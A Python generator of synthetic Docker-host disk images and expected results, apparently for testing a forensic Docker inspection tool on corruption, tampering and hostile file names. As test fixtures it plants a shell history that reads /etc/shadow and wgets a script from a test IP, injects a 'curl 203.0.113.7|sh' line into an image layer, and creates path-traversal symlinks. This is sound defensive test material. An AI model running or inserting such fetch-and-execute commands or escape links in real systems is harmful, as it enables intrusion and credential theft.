#!/usr/bin/env python3
"""Build dof's synthetic Docker-host test images.  See images/README.md,
section "Synthetic images".  Usage: make_synth.py OUTDIR [CASE...]"""

import gzip
import json
import os
import random
import shutil
import struct
import subprocess
import sys
import time
import zlib

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from ext4tree import Tree, ts, b, FS_NOW  # noqa: E402
from dockerhost import (DockerHost, jdump, rfc, sha, hexid, expect_view,  # noqa: E402
                        esc)
import bbolt  # noqa: E402

OUT = None
CASES = {}
GOOD_SIZE_MIB = 40


def case(fn):
    name = {"bbolt_dbs": "bbolt", "good_containers_formats": "derived-formats"}.get(
        fn.__name__, fn.__name__.replace("_", "-"))
    CASES[name] = fn
    return fn


def stage(name):
    return os.path.join(OUT, ".stage-" + name)


def write_expect(name, exp):
    exp = dict(exp)
    exp.setdefault("case", name)
    exp.setdefault("image", name + ".raw")
    exp.setdefault("schema", 1)
    with open(os.path.join(OUT, name + ".expect.json"), "w") as f:
        json.dump(exp, f, indent=1, sort_keys=True, ensure_ascii=False)
        f.write("\n")


def cinfo(c):
    return {k: c[k] for k in ("id", "name", "state", "exit_code", "image_id",
                              "driver", "mount_id")}


# ------------------------------------------------------------------ good
BASE_T = ts("2023-05-01T10:00:00")

L0_OPS = [
    ("dir", "bin"), ("file", "bin/busybox", b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 16, 0o755),
    ("symlink", "bin/sh", "busybox"), ("symlink", "bin/ls", "busybox"),
    ("file", "etc/os-release", b'NAME="Synth Linux"\nID=synth\nVERSION_ID=1.0\n'),
    ("file", "etc/passwd", b"root:x:0:0:root:/root:/bin/sh\nnobody:x:65534:65534:nobody:/nonexistent:/bin/false\n"),
    ("file", "etc/group", b"root:x:0:\nnogroup:x:65534:\n"),
    ("file", "etc/app.conf", b"version=1\n"),
    ("file", "etc/motd", b"Welcome to the base image\n"),
    ("dir", "tmp", 0o1777), ("dir", "root", 0o700),
    ("file", "var/cache/apt/pkgcache.bin", b"PKGCACHE" * 64),
    ("file", "var/cache/apt/srcpkgcache.bin", b"SRCCACHE" * 64),
    ("file", "opt/data/keep.txt", b"kept in the base layer\n"),
    ("file", "usr/share/doc/README", b"base image documentation\n"),
]
LONG_TARGET = "/opt/application/releases/2023-05-06T07-08-09Z/build-0123456789abcdef/bin/app"
L1_OPS = [
    ("file", "etc/app.conf", b"version=2\n"),
    ("whiteout", "etc/motd"),
    ("file", "app/app.py", b"print('hello from app')\n", 0o755),
    ("symlink", "app/current", LONG_TARGET),
    ("file", "opt/application/releases/2023-05-06T07-08-09Z/build-0123456789abcdef/bin/app",
     b"#!/bin/sh\necho app\n", 0o755),
]
L2_OPS = [
    ("file", "etc/app.conf", b"version=3\n"),
    ("opaque", "var/cache/apt"),
    ("file", "var/cache/apt/fresh.bin", b"FRESH" * 100),
    ("file", "app/run.sh", b"#!/bin/sh\nexec python3 /app/app.py\n", 0o755),
]
WEB_OPS = [
    ("file", "etc/app.conf", b"version=4-container\n"),
    ("whiteout", "usr/share/doc/README"),
    ("file", "root/.ash_history", b"ls -la\ncat /etc/shadow\nwget http://203.0.113.7/x.sh\n", 0o600),
    ("file", "tmp/file with space.txt", b"space\n"),
    ("file", "tmp/pipe|name.txt", b"pipe\n"),
    ("file", "tmp/new\nline.txt", b"newline\n"),
    ("file", b"tmp/latin1-\xe9t\xe9.txt", b"not utf-8 name\n"),
]
BATCH_OPS = [
    ("file", "var/log/batch.log", b"batch done\n"),
    ("opaque", "opt/data"),
    ("file", "opt/data/out.csv", b"a,b\n1,2\n"),
]
MERGED_PATHS = ["/etc/app.conf", "/etc/motd", "/etc/os-release", "/usr/share/doc/README",
                "/var/cache/apt/pkgcache.bin", "/var/cache/apt/fresh.bin",
                "/opt/data/keep.txt", "/opt/data/out.csv", "/app/current", "/app/run.sh",
                "/.dockerenv", "/etc/hostname", "/etc/mtab",
                "/tmp/file with space.txt", "/tmp/pipe|name.txt", "/tmp/new\nline.txt",
                b"/tmp/latin1-\xe9t\xe9.txt", "/root/.ash_history"]


def big_blob(f):
    """3 MiB of incompressible, reproducible bytes (so that the E01 of
    `good` has several 1 MiB segments)."""
    r = random.Random(1234)
    f.write(r.randbytes(3 << 20))


def good_host(name, web_ops=None, tarsplit=True, extra=None, log_lines=None):
    t = Tree(stage(name))
    h = DockerHost(t, seed="good", tarsplit=tarsplit)
    l0 = h.add_layer(L0_OPS, created_by="/bin/sh -c #(nop) ADD file:base in / ")
    base = h.add_image(l0, ["local/base:1"])
    l1 = h.add_layer(L1_OPS, l0, created_by="/bin/sh -c echo version=2 > /etc/app.conf && rm /etc/motd")
    l2 = h.add_layer(L2_OPS, l1, created_by="/bin/sh -c echo version=3 > /etc/app.conf && rm -rf /var/cache/apt && mkdir /var/cache/apt")
    app = h.add_image(l2, ["local/app:1.0", "local/app:latest"], parent_image=base["id"],
                      config={"Cmd": ["/app/run.sh"], "WorkingDir": "/app",
                              "ExposedPorts": {"8080/tcp": {}},
                              "Labels": {"org.opencontainers.image.title": "app"}})
    h.add_volume("webdata", [("file", "index.html", b"<h1>hello</h1>\n")])
    t.sparse_file(h.root + "/volumes/webdata/_data/blob.bin", 3 << 20, big_blob,
                  mtime=ts("2023-05-02T08:00:00"))
    web = h.add_container("web", app, "running", web_ops if web_ops is not None else WEB_OPS,
                          mounts={"/srv/data": {"Type": "volume", "Name": "webdata"},
                                  "/usr/share/www": {"Type": "bind", "Source": "/srv/www",
                                                     "RW": False}},
                          binds=["/srv/www:/usr/share/www:ro"], log_lines=log_lines)
    batch = h.add_container("batch", app, "exited", BATCH_OPS, exit_code=0,
                            cmd=["/bin/sh", "-c", "run-batch"])
    fresh = h.add_container("fresh", base, "created", [], cmd=["/bin/sh"])
    if extra:
        extra(h, t)
    h.finish()
    return t, h


def std_expect(h, exit_code=0, listed=None, warn=(), merged_for=("web", "batch", "fresh")):
    exp = {
        "format": "raw",
        "hand_built": False,
        "exit_code": exit_code,
        "data_roots": [{"volume_offset_bytes": 0, "path": "/" + h.root if h.root else "/"}],
        "storage_driver": h.driver,
        "containers_listed": listed if listed is not None else [c["name"] for c in h.containers],
        "containers": [cinfo(c) for c in h.containers],
        "warnings_must_mention": list(warn),
        "images": [{"id": "sha256:" + i["id"], "tags": i["tags"],
                    "diff_ids": i["config"]["rootfs"]["diff_ids"],
                    "chain_ids": [L.chainid for L in h.chain(i["top"])]}
                   for i in h.images],
        "volumes_on_disk": list(h.volumes),
        "merged": {},
    }
    for c in h.containers:
        if c["name"] in merged_for:
            exp["merged"][c["name"]] = expect_view(h.merged(c), MERGED_PATHS)
    return exp


def build(t, name, size=GOOD_SIZE_MIB, **kw):
    img = os.path.join(OUT, name + ".raw")
    t.build(img, size, **kw)
    shutil.rmtree(t.stage)
    return img


@case
def good():
    t, h = good_host("good")
    build(t, "good")
    exp = std_expect(h)
    web = [c for c in h.containers if c["name"] == "web"][0]
    exp["tests"] = "baseline: 3 containers (running/exited 0/created), 3-layer image, whiteouts, opaque dirs, long symlink, odd names"
    exp["logs"] = {"web": {"records": 3, "first": {"stream": "stdout", "log": "starting web\n"}}}
    exp["whiteouts"] = [
        {"layer": "image:1", "path": "/etc/motd"},
        {"layer": "container:web", "path": "/usr/share/doc/README"}]
    exp["opaque_dirs"] = [
        {"layer": "image:2", "path": "/var/cache/apt"},
        {"layer": "container:batch", "path": "/opt/data"}]
    exp["states"] = {"web": "running", "batch": "exited", "fresh": "created"}
    exp["mount_points"] = {"web": [
        {"destination": "/srv/data", "type": "volume", "name": "webdata",
         "source": "/var/lib/docker/volumes/webdata/_data"},
        {"destination": "/usr/share/www", "type": "bind", "source": "/srv/www"}]}
    exp["web_id"] = web["id"]
    exp["verify_image"] = {"image": "local/app:1.0", "exit_code": 0, "must_name": []}
    write_expect("good", exp)
    return h


@case
def good_containers_formats():
    """good-e01.E01.., good-split.001.., truncated-raw, truncated-e01,
    qcow2, good.vmdk, good.vhd: all derived from good.raw."""
    src = os.path.join(OUT, "good.raw")
    if not os.path.exists(src):
        good()
    gexp = json.load(open(os.path.join(OUT, "good.expect.json")))
    size = os.path.getsize(src)

    def derived(name, image, fmt, **over):
        e = dict(gexp)
        e.pop("case")
        e.update({"image": image, "format": fmt, "derived_from": "good"})
        e.update(over)
        write_expect(name, e)

    # E01, multi-segment
    for f in os.listdir(OUT):
        if f.startswith("good-e01.") or f.startswith("truncated-e01."):
            os.unlink(os.path.join(OUT, f))
    subprocess.run(["ewfacquire", "-u", "-q", "-t", os.path.join(OUT, "good-e01"),
                    "-f", "encase6", "-c", "deflate:fast", "-S", "1MiB", src],
                   stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, check=True)
    segs = sorted(f for f in os.listdir(OUT) if f.startswith("good-e01.E"))
    derived("good-e01", "good-e01.E01", "e01", segments=segs,
            tests="multi-segment E01 of good: same results as good.raw")
    # truncated E01: copy the segments, cut the last one in half
    tsegs = []
    for s in segs:
        d = "truncated-e01" + s[len("good-e01"):]
        shutil.copyfile(os.path.join(OUT, s), os.path.join(OUT, d))
        tsegs.append(d)
    last = os.path.join(OUT, tsegs[-1])
    os.truncate(last, os.path.getsize(last) // 2)
    write_expect("truncated-e01", {
        "image": "truncated-e01.E01", "format": "e01", "segments": tsegs,
        "derived_from": "good", "hand_built": False,
        "tests": "E01 whose last segment is cut in half: no crash (run under ASan), "
                 "either exit 3 naming the E01, or exit 1 with read-error warnings",
        "exit_code_one_of": [1, 3], "warnings_must_mention": [],
        "must_not_crash": True})
    # split raw
    for f in os.listdir(OUT):
        if f.startswith("good-split."):
            os.unlink(os.path.join(OUT, f))
    subprocess.run(["split", "-b", str(size // 2 + 4096 * 7), "-d", "-a", "3",
                    "--numeric-suffixes=1", src, os.path.join(OUT, "good-split.")], check=True)
    derived("good-split", "good-split.001", "split",
            segments=sorted(f for f in os.listdir(OUT) if f.startswith("good-split.")),
            tests="split raw (.001/.002) of good: same results as good.raw")
    # truncated raw
    tr = os.path.join(OUT, "truncated-raw.raw")
    shutil.copyfile(src, tr)
    os.truncate(tr, size // 2)
    write_expect("truncated-raw", {
        "image": "truncated-raw.raw", "format": "raw", "derived_from": "good",
        "hand_built": False, "must_not_crash": True, "exit_code_one_of": [1, 3, 4],
        "warnings_must_mention": [],
        "tests": "good.raw cut to half its size: reads past the end are errors, "
                 "not crashes; whatever is listed must be a subset of good"})
    # qcow2 / vmdk / vhd
    for fmt, ext, opts in (("qcow2", "qcow2", []), ("vmdk", "vmdk", []),
                           ("vpc", "vhd", ["-o", "subformat=fixed,force_size=on"])):
        dst = os.path.join(OUT, "good." + ext)
        subprocess.run(["qemu-img", "convert", "-q", "-f", "raw", "-O", fmt] + opts +
                       [src, dst], check=True)
    derived("qcow2", "good.qcow2", "qcow2",
            tests="qcow2 v3 of good (magic QFI\\xfb), read by dof's own qcow2 "
                  "reader: same results as good.raw")
    derived("good-vmdk", "good.vmdk", "vmdk",
            tests="monolithic sparse VMDK of good: same results as good.raw")
    derived("good-vhd", "good.vhd", "vhd",
            tests="fixed VHD of good (force_size): same results as good.raw")


@case
def corrupt_config():
    t, h = good_host("corrupt-config")
    batch = [c for c in h.containers if c["name"] == "batch"][0]
    p = batch["cpath"] + "/config.v2.json"
    raw = t.read(p)
    t.file(p, raw[:len(raw) // 2], mtime=ts("2023-05-02T10:01:01"))
    build(t, "corrupt-config")
    exp = std_expect(h, 1, listed=["web", "fresh"],
                     warn=["config.v2.json", batch["id"][:12]], merged_for=("web",))
    exp["tests"] = "batch's config.v2.json is cut mid-JSON: warning naming that file (and the id), others listed, exit 1"
    exp["bad_container_id"] = batch["id"]
    write_expect("corrupt-config", exp)


@case
def missing_mount_id():
    t, h = good_host("missing-mount-id")
    web = h.containers[0]
    t.remove(h.layerdb + "/mounts/%s/mount-id" % web["id"])
    build(t, "missing-mount-id")
    exp = std_expect(h, 1, warn=["mount-id"], merged_for=("batch",))
    exp["tests"] = "layerdb/mounts/<web>/mount-id absent: web still listed (mount id unknown), warning mentions mount-id, no crash, exit 1"
    exp["container_without_mount_id"] = web["id"]
    write_expect("missing-mount-id", exp)


@case
def missing_hostconfig():
    t, h = good_host("missing-hostconfig")
    batch = h.containers[1]
    t.remove(batch["cpath"] + "/hostconfig.json")
    build(t, "missing-hostconfig")
    exp = std_expect(h, 1, warn=["hostconfig.json"], merged_for=())
    exp["tests"] = "batch has no hostconfig.json: listed anyway, warning mentions hostconfig.json, exit 1"
    exp["container_without_hostconfig"] = batch["id"]
    write_expect("missing-hostconfig", exp)


@case
def cyclic_layers():
    """A -> B -> A: the parent of the top image layer's parent points back
    at the top layer."""
    t, h = good_host("cyclic-layers")
    l1, l2 = h.layers[1], h.layers[2]
    # l1's parent now points at l2 (whose parent is l1): l2 -> l1 -> l2 -> ...
    t.file(h.layerdb + "/sha256/%s/parent" % l1.chainid[7:], l2.chainid,
           mtime=ts("2023-05-01T10:01:00"))
    build(t, "cyclic-layers")
    exp = std_expect(h, 1, warn=["cycle"], merged_for=())
    exp["tests"] = "layerdb parent chain loops (%s -> %s -> %s): detect the cycle, warn, do not hang; containers still listed; exit 1" % (
        l2.chainid[7:19], l1.chainid[7:19], l2.chainid[7:19])
    exp["cycle_chain_ids"] = [l2.chainid, l1.chainid]
    exp["must_finish_within_seconds"] = 10
    write_expect("cyclic-layers", exp)


@case
def deep_chain_200():
    t = Tree(stage("deep-chain-200"))
    h = DockerHost(t, seed="deep", tarsplit=False)
    top = None
    for i in range(200):
        top = h.add_layer([("file", "layers/%03d" % i, b"layer %d\n" % i),
                           ("file", "etc/depth", b"%d\n" % i)], top,
                          created_by="/bin/sh -c echo %d > /etc/depth" % i)
    img = h.add_image(top, ["local/deep:200"])
    c = h.add_container("deep", img, "exited", [("file", "etc/depth", b"container\n")])
    c2 = h.add_container("deep-nochange", img, "exited", [])
    h.finish()
    build(t, "deep-chain-200", size=48)
    exp = std_expect(h, 0, merged_for=())
    v = h.merged(c2)
    exp["merged"] = {"deep": expect_view(h.merged(c), ["/etc/depth", "/layers/000", "/layers/199"]),
                     "deep-nochange": expect_view(v, ["/etc/depth", "/layers/000", "/layers/199"])}
    exp["layer_chain_length"] = 200
    exp["min_chain_cap"] = 4096
    exp["tests"] = "200-layer image (valid; real overlay2 stops at 128 lowers): no cap hit, /etc/depth comes from layer 199, exit 0"
    write_expect("deep-chain-200", exp)


@case
def bad_json_log():
    big = "x" * (2 << 20)
    good_line = lambda i, s: jdump({"log": s, "stream": "stdout",  # noqa: E731
                                    "time": rfc(ts("2023-05-02T09:00:05") + i, 1000 + i)})
    data = (good_line(0, "first ok line\n") + b"\n" +
            b'{"log":"truncated rec\n' +
            good_line(1, "second ok line\n") + b"\n" +
            b"this is not json at all\n" +
            b"\n" +
            b'{"log":"\\ud800 bad escape","stream":"stdout","time":"not-a-time"}\n' +
            good_line(2, big + "\n") + b"\n" +
            good_line(3, "after the big line\n") + b"\n" +
            jdump({"log": "partial no newline", "stream": "stderr",
                   "time": rfc(ts("2023-05-02T09:00:09"), 9)}))
    t, h = good_host("bad-json-log", log_lines=data)
    web = h.containers[0]
    build(t, "bad-json-log", size=GOOD_SIZE_MIB + 8)
    exp = std_expect(h, 1, warn=["%s-json.log" % web["id"]], merged_for=())
    exp["tests"] = "json-file log with broken lines, a 2 MiB record and a last line without newline"
    exp["log"] = {"container": "web", "path": "/var/lib/docker/containers/%s/%s-json.log" % (web["id"], web["id"]),
                  "valid_records_min": 4, "valid_records_max": 5,
                  "valid_messages_in_order": ["first ok line\n", "second ok line\n",
                                              "after the big line\n", "partial no newline"],
                  "big_record_bytes": len(big) + 1,
                  "big_record": "either returned (possibly truncated, flagged) or skipped with a warning; never a crash, memory bounded",
                  "invalid_lines_min": 3,
                  "last_line_without_newline": {"log": "partial no newline", "stream": "stderr"}}
    write_expect("bad-json-log", exp)


@case
def config_too_big():
    size = 80 << 20

    def fat(cfg):
        pass
    t, h = good_host("config-too-big")
    batch = h.containers[1]
    p = batch["cpath"] + "/config.v2.json"
    raw = t.read(p)
    head, tail = raw[:-1], raw[-1:]
    pad_len = size - len(raw) - len(b',"Pad":""')

    def writer(f):
        f.write(head + b',"Pad":"')
        chunk = b" " * (1 << 20)
        n = pad_len
        while n > 0:
            f.write(chunk[:min(n, len(chunk))])
            n -= len(chunk)
        f.write(b'"' + tail)
    t.sparse_file(p, size, writer, mtime=ts("2023-05-02T10:01:01"))
    build(t, "config-too-big", size=GOOD_SIZE_MIB + 96)
    exp = std_expect(h, 1, warn=["config.v2.json"], merged_for=())
    del exp["containers_listed"]
    exp["tests"] = "batch's config.v2.json is 80 MiB of valid JSON (one huge string): over the JSON size cap (32 MiB suggested) -> warning about the size cap naming the file; batch listed as damaged (id only) or skipped; others listed; exit 1"
    exp["containers_listed_min"] = ["web", "fresh"]
    exp["oversized_file"] = {"path": "/var/lib/docker/containers/%s/config.v2.json" % batch["id"],
                             "size": size}
    exp["json_cap_bytes_at_most"] = 64 << 20
    write_expect("config-too-big", exp)


@case
def container_layer_copy_removed():
    ops = [o for o in WEB_OPS if b(o[1]) != b"etc/app.conf"]
    t, h = good_host("container-layer-copy-removed", web_ops=ops)
    build(t, "container-layer-copy-removed")
    exp = std_expect(h, 0, merged_for=("web",))
    assert exp["merged"]["web"]["/etc/app.conf"]["layer"] == "image:2"
    exp["tests"] = "web's container layer has no copy of /etc/app.conf: the merged view shows the TOP image layer's version=3"
    write_expect("container-layer-copy-removed", exp)


@case
def altered_image_layer():
    t, h = good_host("altered-image-layer", tarsplit=True)
    l1 = h.layers[1]
    p = "%s/overlay2/%s/diff/app/app.py" % (h.root, l1.cacheid)
    t.file(p, b"print('hello from app')\nimport os; os.system('curl 203.0.113.7|sh')\n",
           mtime=ts("2023-05-01T10:01:00"), mode=0o755)
    build(t, "altered-image-layer")
    exp = std_expect(h, 0, merged_for=())
    exp["tests"] = "every image layer has a real tar-split.json.gz; afterwards /app/app.py in image layer 1 was changed (size and content): verify-image must name it and only it"
    exp["verify_image"] = {"image": "local/app:1.0", "exit_code": 1,
                           "must_name": ["app/app.py"],
                           "layer_chain_id": l1.chainid, "layer_cache_id": l1.cacheid,
                           "unchanged_layers_clean": [h.layers[0].chainid, h.layers[2].chainid]}
    write_expect("altered-image-layer", exp)


@case
def hostile_names():
    t = Tree(stage("hostile-names"))
    h = DockerHost(t, seed="hostile", tarsplit=False)
    l0 = h.add_layer(L0_OPS + [("file", "opt/linkdir/inner.txt", b"inner\n")])
    img = h.add_image(l0, ["local/hostile:1"])
    long_name = "n" * 251 + ".txt"
    ops = [
        ("file", "h/new\nline", b"1\n"), ("file", "h/carriage\rreturn", b"2\n"),
        ("file", "h/esc\x1b[31mred", b"3\n"), ("file", "h/back\\slash", b"4\n"),
        ("file", "h/" + long_name, b"5\n"),
        ("file", "h/..\u2215lookalike", b"6\n"),
        ("file", b"h/bad\xff\xfe", b"7\n"),
        ("symlink", "h/etc2", "/etc"),
        ("symlink", "h/escape", "../../../../../../tmp/pwned"),
        ("symlink", "h/abs", "/etc/shadow"),
        ("symlink", "opt/linkdir", "/tmp"),
        ("file", "h/secret", b"hard linked content\n", 0o600),
        ("hardlink", "h/hardlink", "h/secret"),
        ("symlink", "h/loop1", "loop2"), ("symlink", "h/loop2", "loop1"),
    ]
    c = h.add_container("hostile", img, "exited", ops)
    h.finish()
    build(t, "hostile-names", size=24)
    exp = std_expect(h, 0, merged_for=())
    names = [o[1] for o in ops]
    exp["merged"] = {"hostile": expect_view(h.merged(c), names + ["/opt/linkdir/inner.txt"])}
    exp["tests"] = "container layer with hostile names and links: names printed escaped, export stays inside its target"
    exp["export_must_stay_inside"] = True
    exp["export_notes"] = ("export of 'hostile' must create symlinks as symlinks (never follow them), "
                           "must not write /tmp/pwned or anything outside the target; "
                           "opt/linkdir is a symlink in the merged view, so opt/linkdir/inner.txt is hidden")
    exp["escaped_names_must_appear"] = [esc(b"h/bad\xff\xfe"), esc("h/back\\slash")]
    exp["name_255_bytes"] = "h/" + long_name
    write_expect("hostile-names", exp)


@case
def aufs_handmade():
    t = Tree(stage("aufs-handmade"))
    h = DockerHost(t, seed="aufs", tarsplit=False, driver="aufs")
    l0 = h.add_layer(L0_OPS)
    l1 = h.add_layer(L1_OPS, l0)
    l2 = h.add_layer(L2_OPS, l1)
    img = h.add_image(l2, ["local/aufsapp:1"])
    c = h.add_container("aufsbox", img, "exited", WEB_OPS[:4] + BATCH_OPS, driver="aufs")
    h.finish()
    build(t, "aufs-handmade")
    exp = std_expect(h, 0, merged_for=("aufsbox",))
    exp["hand_built"] = True
    exp["tests"] = "HAND-BUILT aufs layout (aufs/diff, aufs/layers topmost first, aufs/mnt, .wh. whiteouts, .wh..wh..opq, bookkeeping .wh..wh.plnk/.wh..wh.aufs/.wh..wh.orph not shown as user files)"
    exp["bookkeeping_never_listed"] = [".wh..wh.aufs", ".wh..wh.plnk", ".wh..wh.orph"]
    write_expect("aufs-handmade", exp)


@case
def pre110_handmade():
    t = Tree(stage("pre110-handmade"))
    root = "var/lib/docker"
    lids = [hexid("pre110-layer-%d" % i) for i in range(3)]
    created = ts("2015-11-20T10:00:00")
    ccfg_base = {"Hostname": "", "Domainname": "", "User": "", "AttachStdin": False,
                 "AttachStdout": False, "AttachStderr": False, "Tty": False,
                 "OpenStdin": False, "StdinOnce": False, "Env": None, "Cmd": None,
                 "Image": "", "Volumes": None, "WorkingDir": "", "Entrypoint": None,
                 "OnBuild": None, "Labels": {}}
    cmds = ["/bin/sh -c #(nop) ADD file:abcdef0123 in /",
            "/bin/sh -c echo hi > /etc/hi",
            "/bin/sh -c #(nop) CMD [\"sh\"]"]
    layer_files = [[("file", "bin/busybox", b"\x7fELF" + b"\0" * 1000, 0o755),
                    ("file", "etc/passwd", b"root:x:0:0:root:/root:/bin/sh\n")],
                   [("file", "etc/hi", b"hi\n")], []]
    for i, lid in enumerate(lids):
        j = {"id": lid, "created": rfc(created + i * 60, 123456789),
             "container": hexid("pre110-build-%d" % i),
             "container_config": dict(ccfg_base, Cmd=["/bin/sh", "-c", cmds[i]]),
             "docker_version": "1.9.1", "config": dict(ccfg_base, Cmd=["sh"]),
             "architecture": "amd64", "os": "linux", "Size": 0}
        if i:
            j["parent"] = lids[i - 1]
        size = sum(len(o[2]) for o in layer_files[i])
        t.file("%s/graph/%s/json" % (root, lid), jdump(j), mtime=created + i * 60, mode=0o600)
        t.file("%s/graph/%s/layersize" % (root, lid), str(size), mtime=created + i * 60, mode=0o600)
        t.dir("%s/aufs/diff/%s" % (root, lid), mtime=created + i * 60)
        for o in layer_files[i]:
            t.file("%s/aufs/diff/%s/%s" % (root, lid, o[1]), o[2], mode=o[3] if len(o) > 3 else 0o644,
                   mtime=created + i * 60)
        t.file("%s/aufs/layers/%s" % (root, lid), "".join(l + "\n" for l in lids[:i][::-1]),
               mtime=created + i * 60)
        t.dir("%s/aufs/mnt/%s" % (root, lid), mtime=created + i * 60)
    t.file(root + "/repositories-aufs",
           jdump({"Repositories": {"busybox": {"latest": lids[2]}}}), mode=0o600)
    cid = hexid("pre110-container-old")
    ccreated = created + 86400
    cpath = "%s/containers/%s" % (root, cid)
    hp = "/" + cpath
    cfg = {"State": {"Running": False, "Paused": False, "Restarting": False,
                     "OOMKilled": False, "Dead": False, "Pid": 0, "ExitCode": 0, "Error": "",
                     "StartedAt": rfc(ccreated + 1, 500), "FinishedAt": rfc(ccreated + 30, 600)},
           "ID": cid, "Created": rfc(ccreated, 1), "Path": "sh", "Args": ["-c", "echo old"],
           "Config": {"Hostname": cid[:12], "Domainname": "", "User": "", "AttachStdin": False,
                      "AttachStdout": True, "AttachStderr": True, "Tty": False,
                      "OpenStdin": False, "StdinOnce": False, "Env": None,
                      "Cmd": ["sh", "-c", "echo old"], "Image": "busybox", "Volumes": None,
                      "WorkingDir": "", "Entrypoint": None, "OnBuild": None, "Labels": {}},
           "Image": lids[2],
           "NetworkSettings": {"Bridge": "", "EndpointID": "", "Gateway": "", "GlobalIPv6Address": "",
                               "GlobalIPv6PrefixLen": 0, "HairpinMode": False, "IPAddress": "",
                               "IPPrefixLen": 0, "IPv6Gateway": "", "LinkLocalIPv6Address": "",
                               "LinkLocalIPv6PrefixLen": 0, "MacAddress": "", "NetworkID": "",
                               "PortMapping": None, "Ports": None, "SandboxKey": "",
                               "SecondaryIPAddresses": None, "SecondaryIPv6Addresses": None},
           "ResolvConfPath": hp + "/resolv.conf", "HostnamePath": hp + "/hostname",
           "HostsPath": hp + "/hosts", "LogPath": hp + "/%s-json.log" % cid,
           "Name": "/old_busybox", "Driver": "aufs", "ExecDriver": "native-0.2",
           "MountLabel": "", "ProcessLabel": "", "RestartCount": 0, "UpdateDns": False,
           "HasBeenStartedBefore": False,
           "MountPoints": {}, "Volumes": {"/data": "/var/lib/docker/vfs/dir/" + hexid("pre110-vol")},
           "VolumesRW": {"/data": True}, "AppArmorProfile": ""}
    t.file(cpath + "/config.json", jdump(cfg), mtime=ccreated + 30, mode=0o600)
    t.file(cpath + "/hostconfig.json", jdump({
        "Binds": None, "ContainerIDFile": "", "LxcConf": [], "Memory": 0, "MemorySwap": 0,
        "CpuShares": 0, "CpuPeriod": 0, "CpusetCpus": "", "CpusetMems": "", "CpuQuota": 0,
        "BlkioWeight": 0, "OomKillDisable": False, "MemorySwappiness": -1, "Privileged": False,
        "PortBindings": {}, "Links": None, "PublishAllPorts": False, "Dns": None,
        "DnsOptions": None, "DnsSearch": None, "ExtraHosts": None, "VolumesFrom": None,
        "Devices": [], "NetworkMode": "default", "IpcMode": "", "PidMode": "", "UTSMode": "",
        "CapAdd": None, "CapDrop": None, "GroupAdd": None,
        "RestartPolicy": {"Name": "no", "MaximumRetryCount": 0}, "SecurityOpt": None,
        "ReadonlyRootfs": False, "Ulimits": None,
        "LogConfig": {"Type": "json-file", "Config": {}}, "CgroupParent": "",
        "ConsoleSize": [0, 0], "VolumeDriver": ""}), mtime=ccreated)
    t.file(cpath + "/%s-json.log" % cid, jdump({"log": "old\n", "stream": "stdout",
                                               "time": rfc(ccreated + 1, 700)}) + b"\n",
           mtime=ccreated + 1, mode=0o600)
    t.file(cpath + "/hostname", cid[:12] + "\n", mtime=ccreated + 1)
    t.file(cpath + "/hosts", "127.0.0.1\tlocalhost\n", mtime=ccreated + 1)
    t.file(cpath + "/resolv.conf", "nameserver 8.8.8.8\n", mtime=ccreated + 1)
    # container layers: aufs ids = container id and <id>-init
    for lid, par, files in ((cid + "-init", lids[::-1],
                             [("file", ".dockerinit", b"", 0o755), ("file", ".dockerenv", b"", 0o755),
                              ("file", "etc/hosts", b""), ("file", "etc/hostname", b"")]),
                            (cid, [cid + "-init"] + lids[::-1],
                             [("file", "root/.ash_history", b"echo old\n", 0o600)])):
        base = "%s/aufs/diff/%s" % (root, lid)
        t.dir(base, mtime=ccreated)
        for o in files:
            t.file(base + "/" + o[1], o[2], mode=o[3] if len(o) > 3 else 0o644, mtime=ccreated)
        if lid == cid:
            t.file(base + "/.wh..wh.aufs", b"", mode=0o444, mtime=ccreated)
            t.dir(base + "/.wh..wh.plnk", mode=0o700, mtime=ccreated)
            t.dir(base + "/.wh..wh.orph", mode=0o700, mtime=ccreated)
            t.hardlink(base + "/etc/.wh.hi", base + "/.wh..wh.aufs")
        t.file("%s/aufs/layers/%s" % (root, lid), "".join(p + "\n" for p in par), mtime=ccreated)
        t.dir("%s/aufs/mnt/%s" % (root, lid), mtime=ccreated)
    t.dir(root + "/vfs/dir/" + hexid("pre110-vol"), mtime=ccreated)
    t.file(root + "/vfs/dir/%s/old.txt" % hexid("pre110-vol"), b"old volume data\n", mtime=ccreated)
    t.file(root + "/linkgraph.db", b"SQLite format 3\0" + b"\0" * 4080, mtime=ccreated)
    build(t, "pre110-handmade", size=16)
    write_expect("pre110-handmade", {
        "format": "raw", "hand_built": True, "exit_code": 0,
        "tests": "HAND-BUILT pre-1.10 layout: containers/<id>/config.json (old keys), graph/<id>/{json,layersize} parent chain, repositories-aufs, aufs dirs; container id used as its aufs layer id",
        "data_roots": [{"volume_offset_bytes": 0, "path": "/var/lib/docker"}],
        "storage_driver": "aufs",
        "containers_listed": ["old_busybox"],
        "containers": [{"id": cid, "name": "old_busybox", "state": "exited", "exit_code": 0,
                        "image_id": lids[2], "driver": "aufs", "mount_id": cid}],
        "warnings_must_mention": [],
        "repositories": {"busybox": {"latest": lids[2]}},
        "graph_chain": lids[::-1],
        "merged": {"old_busybox": {"/etc/hi": None, "/etc/passwd": {"type": "file", "size": len(layer_files[0][1][2]), "sha256": sha(layer_files[0][1][2]), "layer": "image:0"},
                                   "/root/.ash_history": {"type": "file", "size": 9, "sha256": sha(b"echo old\n"), "layer": "container"}}}})


@case
def unsupported_driver():
    def extra(h, t):
        app = h.images[1]
        # a container left over from a btrfs-driver era of this host
        c = h.add_container("oldbtrfs", app, "exited", [], driver="btrfs", skip_layers=True)
        mid = c["mount_id"]
        t.dir(h.root + "/btrfs/subvolumes/%s/etc" % mid)
        t.file(h.root + "/btrfs/subvolumes/%s/etc/app.conf" % mid, b"version=3\n")
        t.dir(h.root + "/btrfs/subvolumes/%s-init" % mid)
        md = h.root + "/image/btrfs/layerdb/mounts/%s" % c["id"]
        t.file(md + "/mount-id", mid)
        t.file(md + "/init-id", mid + "-init")
        t.file(md + "/parent", h.layers[2].chainid)
    t, h = good_host("unsupported-driver", extra=extra)
    build(t, "unsupported-driver")
    exp = std_expect(h, 1, warn=["btrfs", "not supported"], merged_for=())
    exp["tests"] = "container 'oldbtrfs' has Driver btrfs (btrfs/subvolumes/ present): listed, with a per-container 'driver not supported' warning; overlay2 ones normal; exit 1"
    exp["unsupported_driver_containers"] = {"oldbtrfs": "btrfs"}
